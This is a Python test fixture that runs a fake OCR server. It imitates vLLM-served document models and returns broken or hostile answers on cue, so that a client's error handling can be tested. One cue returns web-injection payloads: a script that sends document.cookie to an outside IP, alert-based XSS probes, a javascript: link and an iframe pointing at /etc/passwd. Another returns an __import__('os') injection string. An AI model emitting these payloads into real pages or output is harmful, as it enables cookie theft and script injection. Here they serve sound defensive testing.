"""A stand-in for the router and the OCR model behind it: answers in the models' true forms, and misbehaves on cue.

Nothing of vLLM or of this project is imported. In a test:

    with FakeOcr(concurrency=4, latency=0.02) as ocr:      # ocr.url, ocr.seen, ocr.behave(...)

Beside a benchmark: `python tests/documents/fake_ocr.py --port 9000`, with the behaviour as JSON in FAKE_OCR.

It behaves as these fields say; every one may be left out:

    model: name in the metrics (default "ocr")         key: what a client has to send, "" for nothing
    concurrency: requests at a time (default 64)       latency: seconds that each takes (default 0)
    form: "grounding" (default; DeepSeek-OCR's), "markdown", "ocrflux-json" or "doctags"
    cues: list of cues, one for each request in turn, and then none
    pages: {number of a page: list of cues}, one for each request for this page, and then none
    pairs, tables: list of cues, one for each question of that kind, and then none: see OCRFlux's merge below
    texts: {number of a page: its answer, with places where the mode has them}; form "ocrflux-json" puts it in JSON
    cue: what every other request meets                retry_after: of a 429 or 503 (default "1", "" for none)
    no_metrics: true, so that /metrics/engines is 404
    guard: "works" (default), "passed over" (no processor reads ngram_size), "without effect", "refused",
           "no finish_reason" (of an answer that was cut off)

Cues, which a model's name may carry too, as in "DeepSeek-OCR:loop":

    loop        goes round until the context is full   loop_numbers  and counts as it does so
    truncate    is cut off within a sentence           empty         an answer of nothing
    malformed   boxes that are none                    half_json     an object that was cut off
    html        HTML with scripts                      million_boxes 1,000,000 of them
    refusal     "I'm sorry, …"                         noise         nothing but special tokens
    429 503 500 400     that status                    hang          no answer until the client leaves
    cut         the connection ends instead            nonsense      200 with what is no chat completion
    say:TEXT    that text

POST /behave with such an object changes the behaviour of one that runs, and forgets what it saw. GET /seen:

    {"requests": [{"page", "cue", "status", "model", "mode", "prompt", "temperature", "vllm_xargs", "on_behalf_of",
     "traceparent", "width", "height", "rotation", "fields", "answered"}], "pages": {number: answers given},
     "cancelled": n, "most_running": n, "most_waiting": n, "guard_tests": n}

`answered`, 0 until then, is in seconds of the clock that all processes of the machine share, time.monotonic().
A question of the service's test of the guard (one token, or token ids) meets no cue and stands in none of the others.

A page's number is the colour of the square in its top left corner, 5 % of its shorter side: see `colour_of`. It
is found in the other corners too, which shows how the page is turned (OCRFlux's form tells it). A page without one is
number 0.

OCRFlux's merge: the two questions about a page break (modes "pairs" and "tables") are answered in its own form. The
last element of a page goes on in the first of the next where both are tables, or where it has no full stop at its end.
"""

import argparse
import base64
import contextlib
import io
import json
import os
import re
import socket
import threading
import time
from collections.abc import Iterator
from email.message import Message
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from PIL import Image, ImageDraw

SHARE = 0.05  # of the shorter side, the side of the mark
MARK_IS_SEEN_AT = (200, 200)  # a JPEG is decoded to no less than that: the engine is to cost little
SPECIAL = re.compile(r"<\|/?(?:ref|det|grounding)\|>|<｜end▁of▁sentence｜>")
PLACE = re.compile(r"<\|ref\|>[^<]*<\|/ref\|><\|det\|>[^<]*<\|/det\|>\n?")
END = "<｜end▁of▁sentence｜>"
MODES = {
    "<|grounding|>Convert the document to markdown.": "markdown",
    "<|grounding|>OCR this image.": "ocr",
    "Free OCR.": "free",
    "Parse the figure.": "figure",
    "Describe this image in detail.": "describe",
}
STARTS = {
    "Locate <|ref|>": "find",
    "Below are two consecutive pages in Markdown format": "pairs",
    "Below are two tables in HTML format": "tables",
}
CUT_OFF = frozenset({"loop", "loop_numbers", "truncate", "half_json"})
TOKEN_CHARACTERS = 4


# --- pages that say which one they are ---


def colour_of(number: int) -> tuple[int, int, int]:
    """Of the mark of page 1 to 4,000: four bits a channel, in the middle of their range, so that JPEG may blur them."""
    return (number & 15) * 16 + 8, (number >> 4 & 15) * 16 + 8, (number >> 8 & 15) * 16 + 8


def page_image(number: int, width: int = 120, height: int = 160) -> bytes:
    """A PNG of a page that has nothing on it but its mark."""
    image = Image.new("RGB", (width, height), "white")
    side = round(min(width, height) * SHARE)
    ImageDraw.Draw(image).rectangle((0, 0, side - 1, side - 1), fill=colour_of(number))
    data = io.BytesIO()
    image.save(data, "PNG")
    return data.getvalue()


def number_of(image: Image.Image) -> tuple[int, int]:
    """The page's number, 0 where it has none, and the degrees clockwise by which it is turned."""
    picture = image.convert("RGB")
    away = max(1, round(min(picture.size) * SHARE / 2)) - 1
    right, bottom = picture.width - 1 - away, picture.height - 1 - away
    for turned, place in enumerate(((away, away), (right, away), (right, bottom), (away, bottom))):
        red, green, blue = picture.getpixel(place)  # type: ignore[misc]
        number = red // 16 | green // 16 << 4 | blue // 16 << 8
        if 0 < number <= 4000:
            return number, turned * 90
    return 0, 0


# --- what it answers ---


def answer(form: str, mode: str, page: int, prompt: str, cue: str = "", rotation: int = 0, given: str = "") -> str:
    if cue in WRONG:
        return WRONG[cue]
    if cue.startswith("say:"):
        return cue.removeprefix("say:")
    if mode in MERGE:
        said = MERGE[mode](prompt)
    elif given and form == "ocrflux-json":
        said = _ocrflux_page(given, rotation)
    elif given:
        said = given if mode == "markdown" else PLACE.sub("", given)
    elif form == "grounding" and mode in GROUNDED:
        said = GROUNDED[mode](page, prompt)
    else:
        said = FORMS[form](page, rotation)
    if cue == "truncate":
        return said[: len(said) * 2 // 3]
    if cue == "half_json":
        return said[: len(said) // 2]
    if cue == "loop":
        return said + "\n\n" + "This sentence comes again and again. " * 200
    if cue == "loop_numbers":
        return said + "\n\n" + "\n".join(f"Item {number} of the list, which has no end." for number in range(200))
    return said


def _grounded(page: int, _: str) -> str:
    """DeepSeek-OCR's answer to the letter, as vLLM gives it with skip_special_tokens false."""
    return f"""<|ref|>title<|/ref|><|det|>[[80, 60, 620, 100]]<|/det|>
# Page {page}

<|ref|>text<|/ref|><|det|>[[80, 140, 920, 260]]<|/det|>
{_prose(page)}

<|ref|>image<|/ref|><|det|>[[80, 300, 920, 520]]<|/det|>

<|ref|>image_caption<|/ref|><|det|>[[80, 530, 600, 560]]<|/det|>
<center>Figure {page}: what page {page} shows.</center>

<|ref|>table<|/ref|><|det|>[[80, 600, 920, 760]]<|/det|>
{_table(page)}

<|ref|>text<|/ref|><|det|>[[80, 800, 920, 900], [80, 910, 500, 940]]<|/det|>
最后一段：第 {page} 页到此为止。

<|ref|>page_number<|/ref|><|det|>[[480, 960, 520, 985]]<|/det|>
{page}{END}"""


def _lines(page: int, _: str) -> str:
    lines = [f"Page {page}", *_prose(page).split(". ")]
    return (
        "\n".join(
            f"<|ref|>{line}<|/ref|><|det|>[[80, {60 + 40 * row}, 920, {90 + 40 * row}]]<|/det|>"
            for row, line in enumerate(lines)
        )
        + END
    )


def _found(_: int, prompt: str) -> str:
    term = prompt.partition("<|ref|>")[2].partition("<|/ref|>")[0]
    return f"<|ref|>{term}<|/ref|><|det|>[[80, 140, 300, 170], [80, 600, 300, 630]]<|/det|>{END}"


def _prose(page: int) -> str:
    return f"This is what page {page} says first. It has a second sentence. And here the third one of page {page} ends."


def _table(page: int) -> str:
    cells = "".join(f"<tr><td>{page}.{row}</td><td>{page * row}</td></tr>" for row in range(1, 4))
    return f"<table><tr><td>No.</td><td>Value</td></tr>{cells}</table>"


def _plain(page: int, _: int) -> str:
    return f"# Page {page}\n\n{_prose(page)}\n\n{_table(page)}\n\n最后一段：第 {page} 页到此为止。"


def _ocrflux(page: int, rotation: int) -> str:
    table = (
        f"<table><tr><td>No.</td><td>Value</td><td><l></td></tr><tr><td>{page}</td><td>1</td><td>2</td></tr></table>"
    )
    figure = "<Image>(80,300),(920,520)</Image>"
    return _ocrflux_page(f"# Page {page}\n\n{_prose(page)}\n\n{figure}\n\n{table}", rotation)


def _ocrflux_page(natural_text: str, rotation: int) -> str:
    turned = {"is_rotation_valid": not rotation, "rotation_correction": -rotation % 360}
    told = {"primary_language": "en", **turned, "is_table": False, "is_diagram": False}
    return json.dumps({**told, "natural_text": natural_text})


def _pairs(prompt: str) -> str:
    """OCRFlux's answer to which elements of two pages are one."""
    previous, _, following = prompt.partition("\nPrevious page:\n")[2].partition("Next page:\n")
    upper, lower = (re.findall(r"([0-9]+)\. (.*?)\n\n", page, re.DOTALL) for page in (previous, following))
    if not upper or not lower:
        return "[]"
    (last, end), (first, beginning) = upper[-1], lower[0]
    both_tables = end.endswith("</table>") and beginning.startswith("<table>")
    return f"[({last}, {first})]" if both_tables or end[-1] not in ".>" else "[]"


def _one_table(prompt: str) -> str:
    """Two tables as one, without the header that the second repeats."""
    first, _, second = prompt.partition("\nTABLE 1:\n")[2].partition("\nTABLE 2:\n")
    header, *rows = re.findall("<tr>.*?</tr>", second)
    return first.removesuffix("</table>") + "".join(rows if header in first else [header, *rows]) + "</table>"


def _doctags(page: int, _: int) -> str:
    return (
        f"<doctag><title><loc_40><loc_30><loc_310><loc_50>Page {page}</title>\n"
        f"<text><loc_40><loc_70><loc_460><loc_130>{_prose(page)}</text>\n"
        "<picture><loc_40><loc_150><loc_460><loc_260><pie_chart></picture>\n"
        f"<otsl><loc_40><loc_300><loc_460><loc_380><ched>No.<ched>Value<nl><fcel>{page}<fcel>1<nl></otsl>\n"
    )


GROUNDED = {"markdown": _grounded, "ocr": _lines, "find": _found}
MERGE = {"pairs": _pairs, "tables": _one_table}
FORMS = {"grounding": _plain, "markdown": _plain, "ocrflux-json": _ocrflux, "doctags": _doctags}
WRONG = {
    "empty": "",
    "malformed": "<|ref|>text<|/ref|><|det|>[[80, 140, __import__('os')]]<|/det|>\nOne.\n\n"
    "<|ref|>text<|/ref|><|det|>[[a, b, c, d]]<|/det|>\nTwo.",
    "html": "<script>fetch('http://203.0.113.9/' + document.cookie)</script>\n\n"
    '<img src=x onerror="alert(1)">\n\n[a link](javascript:alert(1))\n\n'
    '<table><tr><td onclick="alert(1)">A cell</td></tr></table>\n\n<iframe src="file:///etc/passwd"></iframe>',
    "million_boxes": f"<|ref|>text<|/ref|><|det|>[{'[1,2,3,4],' * 999_999}[1,2,3,4]]<|/det|>\nMany.",
    "refusal": "I'm sorry, but I can't assist with reading this image.",
    "noise": "<|im_end|>" * 50,
}


# --- the server ---


class FakeOcr:
    """Runs in threads of this process from `__enter__` to `__exit__`."""

    def __init__(self, port: int = 0, **behaviour: Any) -> None:
        self.server = _Server(("127.0.0.1", port), _Handler)
        self.server.ocr = self
        self.lock = threading.Condition()
        self.running = self.waiting = 0
        self.behave(**behaviour)

    def __enter__(self) -> "FakeOcr":
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True)
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"

    def behave(self, **behaviour: Any) -> None:
        """From now on; what it saw before is forgotten."""
        with self.lock:
            self.behaviour = behaviour
            self.seen: dict[str, Any] = {"requests": [], "pages": {}, "cancelled": 0, "most_running": 0}
            self.seen["most_waiting"] = self.seen["guard_tests"] = 0

    def cue_of(self, mode: str, page: int, model: str) -> str:
        """Takes it from the lists."""
        listed = self.behaviour.get("pages", {})
        of_mode = self.behaviour.get(mode) if mode in MERGE else None
        for cues in (of_mode, listed.get(str(page)) or listed.get(page), self.behaviour.get("cues")):
            if cues:
                return str(cues.pop(0))
        return model.partition(":")[2] or str(self.behaviour.get("cue", ""))

    @contextlib.contextmanager
    def slot(self) -> Iterator[None]:
        """As an engine does: so many at a time, and the others wait."""
        with self.lock:
            self.waiting += 1
            self.seen["most_waiting"] = max(self.seen["most_waiting"], self.waiting - self._free)
            self.lock.wait_for(lambda: self._free > 0)
            self.waiting -= 1
            self.running += 1
            self.seen["most_running"] = max(self.seen["most_running"], self.running)
        try:
            yield
        finally:
            with self.lock:
                self.running -= 1
                self.lock.notify_all()

    @property
    def _free(self) -> int:
        return int(self.behaviour.get("concurrency", 64)) - self.running


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    request_queue_size = 256
    ocr: FakeOcr

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Clients leave as they please."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True
    server: _Server

    def log_message(self, *_: object) -> None:
        pass

    def do_GET(self) -> None:
        ocr = self.server.ocr
        if self.path == "/seen":
            self.answer(200, ocr.seen)
        elif self.path == "/health":
            self.answer(200, {"status": "healthy"})
        elif self.path in ("/models", "/v1/models"):
            model = {"id": ocr.behaviour.get("model", "ocr"), "type": "ocr", "state": "ready", "max_model_len": 8192}
            self.answer(200, {"data": [model]})
        elif self.path in ("/metrics", "/metrics/engines") and not ocr.behaviour.get("no_metrics"):
            name = ocr.behaviour.get("model", "ocr")
            labels = f'{{model="{name}",replica="ocr-1",engine="0",model_name="{name}"}}'
            self.answer(
                200,
                f"# TYPE vllm:num_requests_running gauge\nvllm:num_requests_running{labels} {ocr.running}.0\n"
                f"# TYPE vllm:num_requests_waiting gauge\nvllm:num_requests_waiting{labels} {ocr.waiting}.0\n",
            )
        else:
            self.answer(404, {"error": {"message": "fake OCR: no such path"}})

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", "0")))
        ocr = self.server.ocr
        if self.path == "/behave":
            ocr.behave(**json.loads(body))
            self.answer(200, {})
        elif self.path != "/v1/chat/completions":
            self.answer(404, {"error": {"message": "fake OCR: no such path"}})
        elif (key := ocr.behaviour.get("key", "")) and self.headers.get("authorization") != f"Bearer {key}":
            self.answer(401, {"error": {"message": "fake OCR: wrong key"}})
        elif (asked := json.loads(body)).get("max_tokens") == 1 or asked.get("return_token_ids"):
            self.test_guard(asked)
        else:
            self.read_page(asked)

    def test_guard(self, asked: dict[str, Any]) -> None:
        """As vLLM and its n-gram processor do."""
        ocr = self.server.ocr
        ocr.seen["guard_tests"] += 1
        guard = ocr.behaviour.get("guard", "works")
        xargs = asked.get("vllm_xargs", {})
        if guard == "refused":
            self.answer(400, {"error": {"message": "fake OCR: vllm_xargs\nis not known"}})
        elif xargs.get("ngram_size") == 0 and guard != "passed over":
            self.answer(400, {"error": {"message": "`ngram_size` has to be a strictly positive integer, got 0."}})
        else:
            count = asked["max_tokens"]
            tokens = [1, 2] * (count // 2) if guard == "without effect" else list(range(count))
            reason = "stop" if guard == "no finish_reason" else "length"
            choice = {"message": {"content": "la"}, "finish_reason": reason, "token_ids": tokens}
            self.answer(200, {"choices": [choice], "usage": {"prompt_tokens": 9, "completion_tokens": count}})

    def read_page(self, asked: dict[str, Any]) -> None:
        ocr = self.server.ocr
        record = _record(asked, self.headers)
        with ocr.lock:
            cue = record["cue"] = ocr.cue_of(record["mode"], record["page"], asked["model"])
            ocr.seen["requests"].append(record)
        if cue in ("429", "503"):
            self.refuse(record, int(cue))
            return
        with ocr.slot():
            time.sleep(ocr.behaviour.get("latency", 0))
            if cue == "hang":
                self.wait_for_client_to_leave()
            elif cue == "cut":
                self.close_connection = True
                self.connection.shutdown(socket.SHUT_RDWR)
            elif cue in ("400", "500"):
                self.refuse(record, int(cue))
            elif cue == "nonsense":
                self.answer(200, {"choices": "none"})
            else:
                self.complete(asked, record)

    def complete(self, asked: dict[str, Any], record: dict[str, Any]) -> None:
        ocr, page, cue = self.server.ocr, record["page"], record["cue"]
        form, mode, prompt = ocr.behaviour.get("form", "grounding"), record["mode"], record["prompt"]
        texts = ocr.behaviour.get("texts", {})
        given = texts.get(page) or texts.get(str(page), "")
        text = answer(form, mode, page, prompt, cue, record["rotation"], given)
        if asked.get("skip_special_tokens", True):
            text = SPECIAL.sub("", text)
        tokens = 8192 if cue in CUT_OFF else len(text) // TOKEN_CHARACTERS
        choice = {"index": 0, "finish_reason": "length" if cue in CUT_OFF else "stop"}
        usage = {"prompt_tokens": 903, "completion_tokens": tokens, "total_tokens": 903 + tokens}
        record["status"] = 200
        record["answered"] = time.monotonic()
        with ocr.lock:
            ocr.seen["pages"][str(page)] = ocr.seen["pages"].get(str(page), 0) + 1
        message = {"role": "assistant", "content": text}
        self.answer(200, {"object": "chat.completion", "choices": [{**choice, "message": message}], "usage": usage})

    def refuse(self, record: dict[str, Any], status: int) -> None:
        record["status"] = status
        self.answer(status, {"error": {"message": f"fake OCR: {status} as asked", "type": "error", "code": None}})

    def answer(self, status: int, document: Any) -> None:
        body = document.encode() if isinstance(document, str) else json.dumps(document).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        after = self.server.ocr.behaviour.get("retry_after", "1")
        if status in (429, 503) and after:
            self.send_header("retry-after", after)
        self.end_headers()
        self.wfile.write(body)

    def wait_for_client_to_leave(self) -> None:
        with contextlib.suppress(OSError):
            while self.connection.recv(1):
                pass
        self.server.ocr.seen["cancelled"] += 1
        self.close_connection = True


def _record(asked: dict[str, Any], headers: Message) -> dict[str, Any]:
    parts = asked["messages"][-1]["content"]
    prompt = next(part["text"] for part in parts if part["type"] == "text")
    page = rotation = width = height = 0
    for url in (part["image_url"]["url"] for part in parts if part["type"] == "image_url"):
        with Image.open(io.BytesIO(base64.b64decode(url.partition(",")[2]))) as image:
            width, height = image.size
            image.draft("RGB", MARK_IS_SEEN_AT)
            page, rotation = number_of(image)
    return {
        "page": page,
        "cue": "",
        "status": 0,
        "model": asked["model"],
        "mode": next((mode for start, mode in STARTS.items() if prompt.startswith(start)), MODES.get(prompt, "prompt")),
        "prompt": prompt,
        "temperature": asked.get("temperature"),
        "vllm_xargs": asked.get("vllm_xargs"),
        "on_behalf_of": headers.get("x-on-behalf-of", ""),
        "traceparent": headers.get("traceparent", ""),
        "width": width,
        "height": height,
        "rotation": rotation,
        "fields": sorted(asked),
        "answered": 0.0,
    }


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    FakeOcr(parser.parse_args().port, **json.loads(os.environ.get("FAKE_OCR", "{}"))).server.serve_forever()


if __name__ == "__main__":
    main()
